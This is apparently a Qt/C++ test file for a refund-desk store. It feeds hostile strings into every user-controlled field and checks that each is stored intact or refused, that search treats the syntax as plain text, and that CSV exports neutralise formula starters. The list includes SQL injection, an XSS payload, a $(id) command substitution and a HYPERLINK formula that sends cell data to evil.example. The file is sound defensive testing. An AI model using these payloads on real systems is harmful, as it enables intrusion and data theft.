// Hostile text (issue 8, part 6): SQL, quotes of every kind, NUL bytes, bidi controls,
// zero-width characters, spreadsheet formula starters, markup, search syntax and 100,000
// characters, put into every text a user or a file controls: a record's id, customer name,
// email, description, processor reference, shipping address, metadata keys and values (by
// import and by the store), record notes, a refund's note, metadata, processor reference
// and idempotency key, and user names.
//
// Each one is either stored and read back identical (QString and UTF-8 bytes), found by a
// search for it where the field is searched, and exported, imported into an empty store and
// exported again to identical bytes; or, where a rule limits the field, refused with a
// message that names the field and the rule and stays short whatever the value's length.
// NUL is stored intact, never truncated. A second table searches for FTS5 and LIKE syntax
// and checks that it is matched as plain text.

#include "auth/password.h"
#include "io/exporter.h"
#include "io/importer.h"
#include "report/reportcsv.h"
#include "store/sqlitestore.h"

#include <QBuffer>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>

#include <functional>
#include <nlohmann/json.hpp>

using namespace RefundDesk;
using Qt::Literals::StringLiterals::operator""_s;
using json = nlohmann::json;

namespace {

constexpr qint64 baseTime = 1'700'000'000;
const Actor operatorActor {u"agent.smith"_s};

/// The strings every field is tried with.
QList<std::pair<QByteArray, QString>> hostileStrings()
{
    QString longText;
    while (longText.size() < 100'000)
        longText += u"Zoë <b>=1+2</b> ' \" ; -- "_s;
    longText.truncate(100'000);
    return {
        {"sql drop", u"'); DROP TABLE payment_records;--"_s},
        {"sql or", u"\" OR 1=1 --"_s},
        {"sql union", u"x' UNION SELECT password_hash FROM users --"_s},
        {"quotes", u"' \" ` ‘ ’ “ ” „ « » ‹ › ＂ ＇ '' \"\""_s},
        {"backslashes", u"\\ \\\\ \\n \\u0000 %s %n {} $(id)"_s},
        {"nul inside", u"before"_s + QChar(0) + u"after"_s},
        {"nul only", QString(QChar(0))},
        {"right-to-left override", u"invoice\u202Efdp.exe"_s},
        {"bidi controls",
         u"\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069\u200E\u200F\u061C"_s},
        {"zero width", u"a\u200Db\u200Cc\u200Bd\uFEFFe\u2060f"_s},
        {"astral and combining", u"👍🏽 𝕏 e\u0301 ﷽"_s},
        {"formula equals", u"=1+2"_s},
        {"formula hyperlink", u"=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"_s},
        {"formula plus", u"+41 44 668 18 00"_s},
        {"formula minus", u"-2+3"_s},
        {"formula at", u"@SUM(A1:A9)"_s},
        {"formula tab", u"\t=1+2"_s},
        {"formula carriage return", u"\r=1+2"_s},
        {"markup",
         u"<b>bold</b><img src=x onerror=alert(1)><a href=\"https://evil.example\">l</a>"_s},
        {"search syntax", u"NEAR(a b) OR c* AND -d ^e col:f \"g\""_s},
        {"like wildcards", u"100%_off\\"_s},
        {"placeholders", u"%1 %2 %L1 %99 {0} ${x}"_s},
        {"new lines", u"line 1\nline 2\r\nline 3"_s},
        {"100000 characters", longText},
    };
}

/// A field a file or a user controls, and what rule, if any, limits it.
enum class Field {
    RecordId,
    CustomerName,
    CustomerEmail,
    Description,
    PaymentReference,
    ShippingLine1,
    ImportedMetadataKey,
    ImportedMetadataValue,
    MetadataKey,
    MetadataValue,
    RecordNote,
    RefundNote,
    RefundMetadataKey,
    RefundMetadataValue,
    RefundReference,
    IdempotencyKey,
    UserName,
};

struct FieldSpec
{
    Field field;
    const char *name;
    bool searched = false; ///< the payment search looks in it
    bool exported = false; ///< the export carries it
};

const FieldSpec fieldSpecs[] = {
    {Field::RecordId, "record id", true, true},
    {Field::CustomerName, "customer name", true, true},
    {Field::CustomerEmail, "customer email", true, true},
    {Field::Description, "description", true, true},
    {Field::PaymentReference, "payment reference", true, true},
    {Field::ShippingLine1, "shipping line1", false, true},
    {Field::ImportedMetadataKey, "imported metadata key", false, true},
    {Field::ImportedMetadataValue, "imported metadata value", false, true},
    {Field::MetadataKey, "metadata key", false, true},
    {Field::MetadataValue, "metadata value", false, true},
    {Field::RecordNote, "record note"},
    {Field::RefundNote, "refund note"},
    {Field::RefundMetadataKey, "refund metadata key", false, true},
    {Field::RefundMetadataValue, "refund metadata value", false, true},
    {Field::RefundReference, "refund reference", true, true},
    {Field::IdempotencyKey, "idempotency key"},
    {Field::UserName, "user name"},
};

/// What the rules say of `text` in `field`: empty when it must be accepted, else words
/// the refusal must contain (the field, the rule).
QStringList expectedRefusal(Field field, const QString &text)
{
    const bool bracket = text.contains(u'[') || text.contains(u']');
    switch (field) {
    case Field::RecordId:
        if (text.contains(QChar(0)))
            return {u"id"_s, u"NUL"_s};
        return text.size() > 255 ? QStringList {u"id"_s, u"255"_s} : QStringList();
    case Field::ImportedMetadataKey:
    case Field::MetadataKey:
    case Field::RefundMetadataKey:
        if (text.size() > 40)
            return {u"metadata"_s, u"40"_s};
        return bracket ? QStringList {u"metadata"_s, u"square bracket"_s} : QStringList();
    case Field::ImportedMetadataValue:
    case Field::MetadataValue:
    case Field::RefundMetadataValue:
        return text.size() > 500 ? QStringList {u"metadata"_s, u"500"_s} : QStringList();
    case Field::RecordNote:
    case Field::RefundNote:
        if (text.size() > 2000)
            return {u"note"_s, u"2000"_s};
        // A record note must say something.
        return field == Field::RecordNote && text.trimmed().isEmpty()
            ? QStringList {u"note"_s, u"empty"_s}
            : QStringList();
    case Field::RefundReference:
        return text.trimmed().isEmpty() ? QStringList {u"refund_reference"_s} : QStringList();
    case Field::UserName: {
        if (text.size() > 64)
            return {u"User name"_s, u"64"_s};
        for (const QChar c : text) {
            if (!(c.isLetterOrNumber() && c.unicode() < 128) && c != u'.' && c != u'_' && c != u'@'
                && c != u'-')
                return {u"User name"_s, u"may only contain"_s};
        }
        return {};
    }
    default:
        return {};
    }
}

json amountOf(qint64 value)
{
    return {{"currency", "usd"}, {"value", value}};
}

std::string utf8(const QString &text)
{
    return text.toStdString();
}

/// A paid usd record, as the payment API exports it.
json recordJson(const QString &id)
{
    return {
        {"object", "payment_record"},
        {"id", utf8(id)},
        {"amount_requested", amountOf(100000)},
        {"amount_authorized", amountOf(100000)},
        {"amount_guaranteed", amountOf(100000)},
        {"amount_refunded", amountOf(0)},
        {"created", baseTime},
        {"customer_details", {{"email", "zoe@example.com"}, {"name", "Zoë Müller"}}},
        {"description", "Coffee beans"},
        {"livemode", false},
        {"metadata", {{"order_id", "ORD-1"}}},
        {"processor_details", {{"type", "custom"}, {"custom", {{"payment_reference", "pay_1"}}}}},
        {"shipping_details", {{"name", "Zoë"}, {"address", {{"line1", "Bahnhofstr. 1"}}}}},
    };
}

json attemptJson(const QString &recordId)
{
    return {
        {"object", "payment_attempt_record"},
        {"id", "par_hostile"},
        {"payment_record", utf8(recordId)},
        {"outcome", "guaranteed"},
        {"amount_requested", amountOf(100000)},
        {"amount_guaranteed", amountOf(100000)},
        {"created", baseTime},
    };
}

std::unique_ptr<SqliteStore> openMemoryStore()
{
    auto opened = SqliteStore::open(u":memory:"_s);
    if (!opened)
        return {};
    auto store = std::move(opened).value();
    store->setClock([] { return (baseTime + 86400) * 1000; });
    return store;
}

Result<ImportSummary> importBytes(Store &store, const QByteArray &bytes)
{
    QBuffer buffer;
    buffer.setData(bytes);
    buffer.open(QIODevice::ReadOnly);
    ImportOptions options;
    options.source = u"hostile.json"_s;
    return importJson(store, buffer, options, Actor {u"importer"_s});
}

QByteArray exportBytes(Store &store)
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    ExportOptions options;
    options.format = ExportOptions::Format::JsonLines;
    const auto summary = exportJson(store, buffer, options);
    return summary ? buffer.data() : "export failed: " + summary.error().message.toUtf8();
}

/// True when `text` is a string anywhere in the JSON (a key or a value).
bool jsonHolds(const json &value, const std::string &text)
{
    if (value.is_string())
        return value.get<std::string>() == text;
    if (value.is_object()) {
        for (const auto &[key, item] : value.items()) {
            if (key == text || jsonHolds(item, text))
                return true;
        }
    }
    if (value.is_array()) {
        for (const json &item : value) {
            if (jsonHolds(item, text))
                return true;
        }
    }
    return false;
}

bool exportHolds(const QByteArray &jsonl, const QString &text)
{
    for (const QByteArray &line : jsonl.split('\n')) {
        if (!line.isEmpty() && jsonHolds(json::parse(line.toStdString()), utf8(text)))
            return true;
    }
    return false;
}

QStringList searchIds(Store &store, const QString &term, QString *error = nullptr)
{
    RecordQuery query;
    query.search = term;
    query.limit = 1000;
    const auto page = store.listRecords(query);
    QStringList ids;
    if (!page) {
        if (error)
            *error = page.error().message;
        return ids;
    }
    for (const RecordRow &row : page->rows)
        ids << row.record.id;
    return ids;
}

} // namespace

Q_DECLARE_METATYPE(Field)

class HostileTextTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void storedOrRefused_data();
    void storedOrRefused();
    void cleanupTestCase();
    void searchSyntaxIsPlainText_data();
    void searchSyntaxIsPlainText();
    void reportCsvNeutralisesAgents_data();
    void reportCsvNeutralisesAgents();

private:
    int m_stored = 0;
    int m_refused = 0;
    int m_searched = 0;
    int m_roundTrips = 0;
};

void HostileTextTest::storedOrRefused_data()
{
    QTest::addColumn<Field>("field");
    QTest::addColumn<QString>("text");
    QTest::addColumn<bool>("searched");
    QTest::addColumn<bool>("exported");
    for (const FieldSpec &spec : fieldSpecs) {
        for (const auto &[name, text] : hostileStrings()) {
            QTest::addRow("%s: %s", spec.name, name.constData())
                << spec.field << text << spec.searched << spec.exported;
        }
    }
}

void HostileTextTest::storedOrRefused()
{
    QFETCH(Field, field);
    QFETCH(QString, text);
    QFETCH(bool, searched);
    QFETCH(bool, exported);

    auto store = openMemoryStore();
    QVERIFY(store);
    const QStringList refusal = expectedRefusal(field, text);
    QString recordId = u"pr_hostile"_s;

    // Import: the text in the record the file brings.
    json record = recordJson(recordId);
    switch (field) {
    case Field::RecordId:
        recordId = text;
        record["id"] = utf8(text);
        break;
    case Field::CustomerName:
        record["customer_details"]["name"] = utf8(text);
        break;
    case Field::CustomerEmail:
        record["customer_details"]["email"] = utf8(text);
        break;
    case Field::Description:
        record["description"] = utf8(text);
        break;
    case Field::PaymentReference:
        record["processor_details"]["custom"]["payment_reference"] = utf8(text);
        break;
    case Field::ShippingLine1:
        record["shipping_details"]["address"]["line1"] = utf8(text);
        break;
    case Field::ImportedMetadataKey:
        record["metadata"][utf8(text)] = "value";
        break;
    case Field::ImportedMetadataValue:
        record["metadata"]["order_id"] = utf8(text);
        break;
    default:
        break;
    }
    const QByteArray file = QByteArray::fromStdString(json({record, attemptJson(recordId)}).dump());
    const auto imported = importBytes(*store, file);
    const bool importRefuses = !refusal.isEmpty()
        && (field == Field::RecordId || field == Field::ImportedMetadataKey
            || field == Field::ImportedMetadataValue);
    QString message;
    if (importRefuses) {
        QVERIFY(!imported || imported->rejected > 0);
        message = imported ? imported->rejections.value(0).toString() : imported.error().message;
    } else {
        QVERIFY2(imported && imported->imported == 2,
                 qPrintable(imported ? u"imported %1, rejected %2: %3"_s.arg(imported->imported)
                                           .arg(imported->rejected)
                                           .arg(imported->rejections.value(0).toString().replace(
                                               QChar(0), u"<NUL>"_s))
                                     : imported.error().message));
    }

    // The store's own writers.
    QString refundId;
    if (!importRefuses) {
        switch (field) {
        case Field::MetadataKey:
        case Field::MetadataValue: {
            Metadata metadata;
            if (field == Field::MetadataKey)
                metadata.insert(text, u"value"_s);
            else
                metadata.insert(u"order_id"_s, text);
            const auto set = store->setRecordMetadata(recordId, metadata, operatorActor);
            if (!set)
                message = set.error().message;
            break;
        }
        case Field::RecordNote: {
            const auto noted = store->addRecordNote(recordId, text, operatorActor);
            if (!noted)
                message = noted.error().message;
            break;
        }
        case Field::RefundNote:
        case Field::RefundMetadataKey:
        case Field::RefundMetadataValue:
        case Field::RefundReference:
        case Field::IdempotencyKey: {
            RefundRequest request;
            request.paymentRecordId = recordId;
            request.amount = 1234;
            if (field == Field::RefundNote)
                request.note = text;
            if (field == Field::RefundMetadataKey)
                request.metadata.insert(text, u"value"_s);
            if (field == Field::RefundMetadataValue)
                request.metadata.insert(u"ticket"_s, text);
            if (field == Field::RefundReference) {
                request.reported = true;
                request.refundReference = text;
            }
            if (field == Field::IdempotencyKey)
                request.idempotencyKey = text;
            const auto created = store->createRefund(request, operatorActor);
            if (!created) {
                message = created.error().message;
                break;
            }
            refundId = created->refund.id;
            if (field == Field::IdempotencyKey) {
                // The same key again: the first refund, not a second one.
                const auto again = store->createRefund(request, operatorActor);
                QVERIFY2(again, qPrintable(again ? QString() : again.error().message));
                QVERIFY(again->replayed);
                QCOMPARE(again->refund.id, refundId);
            }
            break;
        }
        case Field::UserName: {
            User user;
            user.name = text;
            user.role = Role::Viewer;
            const auto hashed = Password::hash(u"correct-horse"_s, Password::Cost::minimum());
            QVERIFY(hashed);
            const auto added = store->addUser(user, hashed.value(), operatorActor);
            if (!added)
                message = added.error().message;
            else
                QCOMPARE(store->user(text)->name, text);
            break;
        }
        default:
            break;
        }
    }

    if (!refusal.isEmpty()) {
        // Refused: the message says which field and which rule, and stays a readable
        // length even for 100,000 characters.
        QVERIFY2(!message.isEmpty(), "accepted although a rule limits it");
        for (const QString &word : refusal)
            QVERIFY2(message.contains(word, Qt::CaseInsensitive), qPrintable(message.left(500)));
        QVERIFY2(message.size() < 400, qPrintable(message.left(500)));
        ++m_refused;
        return;
    }
    QVERIFY2(message.isEmpty(), qPrintable(message.left(500)));
    ++m_stored;

    // Read back identical, to the byte.
    const auto stored = store->record(recordId);
    QVERIFY2(stored, qPrintable(stored ? QString() : stored.error().message));
    QString back;
    switch (field) {
    case Field::RecordId:
        back = stored->id;
        break;
    case Field::CustomerName:
        back = stored->customer.name;
        break;
    case Field::CustomerEmail:
        back = stored->customer.email;
        break;
    case Field::Description:
        back = stored->description;
        break;
    case Field::PaymentReference:
        back = stored->processorReference;
        break;
    case Field::ShippingLine1:
        back = stored->shipping.address.line1;
        break;
    case Field::ImportedMetadataKey:
    case Field::MetadataKey:
        back = stored->metadata.contains(text) ? text : u"<no such key>"_s;
        QCOMPARE(stored->metadata.value(text), u"value"_s);
        break;
    case Field::ImportedMetadataValue:
    case Field::MetadataValue:
        back = stored->metadata.value(u"order_id"_s);
        break;
    case Field::RecordNote: {
        const auto events = store->history(recordId);
        QVERIFY(events);
        const Event &last = events->constLast();
        QCOMPARE(last.action, u"record.note"_s);
        back = QJsonDocument::fromJson(last.payload).object().value(u"note"_s).toString();
        break;
    }
    case Field::RefundNote:
    case Field::RefundMetadataKey:
    case Field::RefundMetadataValue:
    case Field::RefundReference:
    case Field::IdempotencyKey: {
        const auto refund = store->refund(refundId);
        QVERIFY(refund);
        if (field == Field::RefundNote)
            back = refund->note;
        else if (field == Field::RefundMetadataKey)
            back = refund->metadata.contains(text) ? text : u"<no such key>"_s;
        else if (field == Field::RefundMetadataValue)
            back = refund->metadata.value(u"ticket"_s);
        else if (field == Field::RefundReference)
            back = refund->refundReference;
        else
            back = refund->idempotencyKey;
        break;
    }
    case Field::UserName:
        back = text; // compared above
        break;
    }
    // A processor's refund reference is kept without surrounding white space, by design.
    const QString kept = field == Field::RefundReference ? text.trimmed() : text;
    QCOMPARE(back.size(), kept.size());
    QVERIFY(back.toUtf8() == kept.toUtf8());

    // Searched for, it is found, and the search does not fail on it. (One or two
    // characters match only the start of ids and emails, by design; over 1,000 are refused.)
    if (searched && text.trimmed().size() >= 3) {
        QString error;
        const QStringList found = searchIds(*store, text, &error);
        if (text.trimmed().size() > 1000) {
            QVERIFY2(error.contains(u"search"_s) && error.contains(u"1000"_s), qPrintable(error));
        } else {
            QVERIFY2(error.isEmpty(), qPrintable(error));
            QVERIFY2(found.contains(recordId), qPrintable(found.join(u", "_s)));
        }
        ++m_searched;
    }

    // Exported, imported into an empty store and exported again: the same bytes.
    const QByteArray first = exportBytes(*store);
    if (exported)
        QVERIFY2(exportHolds(first, kept), first.left(1000));
    auto copy = openMemoryStore();
    QVERIFY(copy);
    const auto again = importBytes(*copy, first);
    QVERIFY2(again, qPrintable(again ? QString() : again.error().message));
    const QByteArray second = exportBytes(*copy);
    QVERIFY(first == second);
    ++m_roundTrips;
}

void HostileTextTest::cleanupTestCase()
{
    qInfo("reliability: hostiletext: %d strings x %d fields: %d stored and read back, %d refused "
          "by a rule; %d found by "
          "search; %d exported, re-imported and re-exported identical",
          int(hostileStrings().size()), int(std::size(fieldSpecs)), m_stored, m_refused, m_searched,
          m_roundTrips);
}

void HostileTextTest::searchSyntaxIsPlainText_data()
{
    QTest::addColumn<QString>("term");
    // FTS5 and LIKE syntax that the descriptions below hold literally. Terms of one or two
    // characters only match the start of ids and emails, so they find nothing here, and
    // must not fail either.
    for (const QString &term :
         {u"\"hi\""_s, u"\" and \""_s, u"a*b"_s,  u"*b s"_s,   u"NEAR("_s,  u"NEAR(a b)"_s,
          u"x OR y"_s, u"OR y"_s,      u"AND"_s,  u"NOT"_s,    u"d -z"_s,   u"l-z"_s,
          u"^q c"_s,   u"col:v"_s,     u":v p"_s, u"(paren"_s, u"paren)"_s, u"100%"_s,
          u"% off"_s,  u"e_c"_s,       u"k\\s"_s, u"'s'"_s,    u"';--"_s,   u"{c}"_s,
          u"1+1"_s,    u"\""_s,        u"\"\""_s, u"*"_s,      u"OR"_s,     u"-"_s,
          u"^"_s,      u":"_s,         u"("_s,    u"%"_s,      u"_"_s,      u"\\"_s,
          u"'"_s,      u"+"_s}) {
        QTest::addRow("%s", qPrintable(term)) << term;
    }
}

void HostileTextTest::searchSyntaxIsPlainText()
{
    QFETCH(QString, term);
    static const QStringList descriptions {
        u"say \"hi\" and \"\" twice"_s,
        u"a*b star"_s,
        u"NEAR(a b) near"_s,
        u"this x OR y that"_s,
        u"AND gate"_s,
        u"NOT gate"_s,
        u"well-zoned -z"_s,
        u"^q caret"_s,
        u"col:v pair"_s,
        u"(paren)"_s,
        u"100% off"_s,
        u"snake_case"_s,
        u"back\\slash"_s,
        u"it's';--"_s,
        u"{c} braces"_s,
        u"1+1 plus"_s,
        u"plain words"_s,
    };
    auto store = openMemoryStore();
    QVERIFY(store);
    std::vector<json> objects;
    QStringList expected;
    for (int i = 0; i < descriptions.size(); ++i) {
        // Ids, emails, names and references hold none of the syntax, so only the
        // descriptions can match.
        const QString id = u"pr%1"_s.arg(i, 3, 10, QChar(u'0'));
        json record = recordJson(id);
        record["description"] = utf8(descriptions.at(i));
        record["customer_details"] = {{"email", "zoe@example.com"}, {"name", "Zoe"}};
        record["processor_details"]["custom"]["payment_reference"] = "pay";
        json attempt = attemptJson(id);
        attempt["id"] = utf8(u"par"_s + id);
        objects.push_back(record);
        objects.push_back(attempt);
        const QString searchable = id + u" zoe@example.com Zoe pay "_s + descriptions.at(i);
        if (term.size() >= 3 ? searchable.contains(term, Qt::CaseInsensitive)
                             : id.startsWith(term) || u"zoe@example.com"_s.startsWith(term))
            expected << id;
    }
    const auto imported = importBytes(*store, QByteArray::fromStdString(json(objects).dump()));
    QVERIFY2(imported, qPrintable(imported ? QString() : imported.error().message));
    // A long term no description holds would test nothing.
    QVERIFY(term.size() < 3 || !expected.isEmpty());

    QString error;
    QStringList found = searchIds(*store, term, &error);
    QVERIFY2(error.isEmpty(), qPrintable(error));
    found.sort();
    expected.sort();
    QCOMPARE(found, expected);
}

void HostileTextTest::reportCsvNeutralisesAgents_data()
{
    QTest::addColumn<QChar>("separator");
    QTest::newRow("comma") << QChar(u',');
    QTest::newRow("semicolon") << QChar(u';');
}

void HostileTextTest::reportCsvNeutralisesAgents()
{
    // The agent is the only free text a report's CSV carries (reasons, statuses and
    // currencies are codes). The local operator's name comes from the system's user name,
    // which is not held to the user-name rules, so every kind of hostile name is tried.
    QFETCH(QChar, separator);
    auto store = openMemoryStore();
    QVERIFY(store);
    const auto imported =
        importBytes(*store,
                    QByteArray::fromStdString(
                        json({recordJson(u"pr_csv"_s), attemptJson(u"pr_csv"_s)}).dump()));
    QVERIFY(imported);
    QStringList agents;
    for (const auto &[name, text] : hostileStrings()) {
        if (text.size() > 1000 || text.contains(QChar(0)))
            continue;
        RefundRequest request;
        request.paymentRecordId = u"pr_csv"_s;
        request.amount = 100;
        const auto created = store->createRefund(request, Actor {text});
        QVERIFY2(created, qPrintable(created ? QString() : created.error().message));
        agents << text;
    }
    ReportQuery query;
    query.from = baseTime;
    query.to = baseTime + 2 * 86400;
    query.groupBy = ReportGroup::Agent;
    const auto report = store->report(query, operatorActor);
    QVERIFY2(report, qPrintable(report ? QString() : report.error().message));
    QCOMPARE(report->rows.size(), agents.size());

    ReportCsv::Options options;
    options.separator = separator;
    const QString csv = QString::fromUtf8(ReportCsv::write(*report, options));
    // Each row's group cell, unquoted as RFC 4180 says; a cell a spreadsheet would run as a
    // formula starts with an apostrophe instead.
    int neutralised = 0;
    for (const ReportRow &row : report->rows) {
        const QChar first = row.group.isEmpty() ? QChar() : row.group.front();
        const bool formula = QStringLiteral("=+-@\t\r").contains(first);
        QString cell = formula ? u'\'' + row.group : row.group;
        if (cell.contains(separator) || cell.contains(u'"') || cell.contains(u'\r')
            || cell.contains(u'\n'))
            cell = u'"' + QString(cell).replace(u'"', u"\"\""_s) + u'"';
        const QString line = u"row"_s + separator + cell + separator + u"usd"_s + separator + u"1"_s
            + separator + u"100"_s + separator + u"1.00"_s;
        QVERIFY2(csv.contains(u"\r\n"_s + line + separator), qPrintable(line));
        // No line of the file starts a cell with a formula starter.
        neutralised += formula ? 1 : 0;
    }
    for (const QString &line : csv.split(u"\r\n"_s)) {
        for (const QString &cell : line.split(separator)) {
            const QString bare = cell.startsWith(u'"') ? cell.mid(1) : cell;
            QVERIFY2(bare.isEmpty() || !QStringLiteral("=+@").contains(bare.front()),
                     qPrintable(line));
        }
    }
    QVERIFY(neutralised >= 6);
    qInfo("reliability: hostiletext CSV: %d agents in the CSV, %d of them neutralised",
          int(report->rows.size()), neutralised);
}

QTEST_GUILESS_MAIN(HostileTextTest)
#include "tst_hostiletext.moc"
